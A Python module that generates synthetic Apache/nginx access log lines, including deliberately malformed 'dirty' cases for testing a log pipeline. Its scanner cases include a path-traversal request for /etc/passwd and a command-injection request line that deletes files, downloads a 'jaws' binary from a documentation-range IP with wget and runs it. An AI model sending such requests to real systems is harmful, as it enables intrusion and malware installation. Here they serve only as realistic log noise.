"""access_logs lines: the shared traffic model's requests as Apache and nginx log them, in
the Combined Log Format (``%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"``).

Each server writes its local time and offset (``[08/Nov/2026:13:55:36 +0100]``), ``-`` for
an empty size, user, referrer or user agent, and escapes ``"`` and ``\\`` inside the
quoted fields as Apache does. Browsers' targets are percent-encoded. Only the admin host
asks for a user (basic auth). ``--dirty`` replaces lines with what real logs hold (see
``CASES``): requests of another shape the server still answered, both servers' escapes, an
IPv6 client, and lines the pipeline must dead-letter (an interleaved error-log line, a line
of another layout, the last line cut mid-write).
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime
from urllib.parse import quote

import numpy as np

from local.generate import web_traffic
from local.generate.lines import LineCase, LineDataset, cut_mid_write
from local.generate.timefmt import clf_timestamps
from local.generate.traffic import iter_request_blocks

DATASET = "access_logs"
STREAM_PROTOCOLS = 10
FIELDS = ("client_ip", "ident", "user_name", "time", "request", "status", "bytes_sent",
          "referrer", "user_agent")  # fmt: skip
"""A row's fields, as logged: quoted fields escaped, ``-`` for no value."""
ADMIN_USERS = ("mkeller", "a.osei", "ops")
_TARGET_SAFE = "/?=&%+,;:@!$'()*[]~"
"""What a browser sends as is in a target; anything else (a space, '"') is percent-encoded."""
_PROTOCOLS, _PROTOCOL_SHARES = ("HTTP/1.1", "HTTP/2.0", "HTTP/1.0"), (0.54, 0.45, 0.01)
_SCANNER_LINES = (
    "GET /../../../../etc/passwd",
    "GET /shell?cd+/tmp;rm+-rf+*;wget+ 198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1",
    "MGLNDD_203.0.113.10_443",
    "t3 12.2.1",
)
_SCANNER_AGENTS = ("-", "Mozilla/5.0 zgrab/0.x", "Hello, world")

Row = tuple[str, ...]


def iter_row_blocks(rows: int, seed: int) -> Iterator[tuple[int, list[Row]]]:
    """(lines done so far, rows of logged fields) per block of the traffic model's requests."""
    for index, (done, requests) in enumerate(iter_request_blocks(rows, seed)):
        rng = np.random.default_rng([seed, STREAM_PROTOCOLS, index])
        protocol = rng.choice(len(_PROTOCOLS), len(requests), p=_PROTOCOL_SHARES)
        protocol[requests.crawled] = 0
        admin = requests.hosts == "admin.shop.example.com"
        users = np.where(
            admin, np.array(ADMIN_USERS)[rng.integers(0, len(ADMIN_USERS), len(requests))], "-"
        )
        requests_text = [
            _escaped(f"{method} {quote(path, safe=_TARGET_SAFE)} {_PROTOCOLS[p]}")
            for method, path, p in zip(
                requests.methods.tolist(), requests.paths.tolist(), protocol.tolist(), strict=True
            )
        ]
        columns = (
            requests.client_ips.tolist(),
            ["-"] * len(requests),
            users.tolist(),
            clf_timestamps(requests.utc_ms, requests.offsets),
            requests_text,
            [str(s) for s in requests.statuses.tolist()],
            [str(b) if b else "-" for b in requests.bytes_sent.tolist()],  # Apache's %b
            [_escaped(r) if r else "-" for r in requests.referrers.tolist()],
            [_escaped(a) if a else "-" for a in requests.user_agents.tolist()],
        )
        yield done, list(zip(*columns, strict=True))


def render(row: Row) -> str:
    """One Combined Log Format line."""
    ip, ident, user, time, request, status, size, referrer, agent = row
    return f'{ip} {ident} {user} [{time}] "{request}" {status} {size} "{referrer}" "{agent}"'


def _escaped(text: str) -> str:
    """A quoted field's text as Apache writes it: ``\\`` and ``"`` escaped."""
    return text.replace("\\", "\\\\").replace('"', '\\"')


def _with(row: Row, **fields: str) -> Row:
    values = dict(zip(FIELDS, row, strict=True))
    values.update(fields)
    return tuple(values[name] for name in FIELDS)


def _no_values(row: Row, rng: np.random.Generator) -> str:
    return render(_with(row, user_name="-", status="304", bytes_sent="-", referrer="-"))


def _tls_handshake(row: Row, rng: np.random.Generator) -> str:
    # A ClientHello's first bytes, which nginx logs as \xHH escapes.
    hello = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03])
    noise = rng.integers(0, 256, 6).astype(np.uint8).tobytes()
    logged = "".join(f"\\x{byte:02X}" for byte in hello + noise)
    fields = {"status": "400", "bytes_sent": "157", "referrer": "-", "user_agent": "-"}
    return render(_with(row, request=logged, **fields))


def _timed_out(row: Row, rng: np.random.Generator) -> str:
    fields = {"bytes_sent": "0", "referrer": "-", "user_agent": "-"}
    return render(_with(row, request="-", status="408", **fields))


def _scanner(row: Row, rng: np.random.Generator) -> str:
    line = _SCANNER_LINES[int(rng.integers(len(_SCANNER_LINES)))]
    agent = _SCANNER_AGENTS[int(rng.integers(len(_SCANNER_AGENTS)))]
    size = str(int(rng.integers(150, 700)))
    return render(_with(row, request=line, status="400", bytes_sent=size, referrer="-",
                        user_agent=agent))  # fmt: skip


def _apache_quotes(row: Row, rng: np.random.Generator) -> str:
    referrer = _escaped('https://forum.example.net/t/best "trail" shoes?page=2')
    agent = _escaped('Mozilla/5.0 (compatible; "SiteAuditBot" 1.0; +https://audit.example.net/bot)')
    return render(_with(row, referrer=referrer, user_agent=agent))


def _nginx_escapes(row: Row, rng: np.random.Generator) -> str:
    request = r"GET /search?q=\x22caf\xC3\xA9\x22 HTTP/1.1"
    return render(_with(row, request=request, user_agent=r"Mozilla/5.0 (\x22Scraper\x22/2.1)"))


def _ipv6_client(row: Row, rng: np.random.Generator) -> str:
    prefixes = [entry[2] for entry in web_traffic.COUNTRIES.values()]
    prefix = prefixes[int(rng.integers(len(prefixes)))]
    a, b, c = (int(x) for x in rng.integers(1, 1 << 16, 3))
    return render(_with(row, client_ip=f"{prefix}:{a:x}:{b:x}::{c:x}"))


def _error_log_line(row: Row, rng: np.random.Generator) -> str:
    # The server's error log written to the access log's file.
    at = datetime.strptime(row[3], "%d/%b/%Y:%H:%M:%S %z").strftime("%Y/%m/%d %H:%M:%S")
    pid = int(rng.integers(1000, 30000))
    return (
        f"{at} [error] {pid}#{pid}: *{int(rng.integers(1, 99999))} "
        "upstream timed out (110: Connection timed out) while reading response header from "
        f'upstream, client: {row[0]}, server: shop.example.com, request: "{row[4]}", '
        'upstream: "http://10.0.2.15:8080/", host: "shop.example.com"'
    )


def _vhost_line(row: Row, rng: np.random.Generator) -> str:
    return f"shop.example.com:443 {render(row)}"


CASES: tuple[LineCase[Row], ...] = (
    LineCase("'-' for size, user and referrer (a 304)", False, _no_values),
    LineCase("TLS handshake sent to the HTTP port (400)", False, _tls_handshake),
    LineCase("connection closed before a request: '-' (408)", False, _timed_out),
    LineCase("scanner's request line, not METHOD TARGET PROTOCOL (400)", False, _scanner),
    LineCase("Apache's \\\" in the referrer and user agent", False, _apache_quotes),
    LineCase("nginx's \\xHH escapes in the request and user agent", False, _nginx_escapes),
    LineCase("IPv6 client", False, _ipv6_client),
    LineCase("error-log line interleaved", True, _error_log_line),
    LineCase("line of another layout (vhost_combined)", True, _vhost_line),
)
LINES = LineDataset(iter_row_blocks, render, CASES, cut_last_line=cut_mid_write(render))
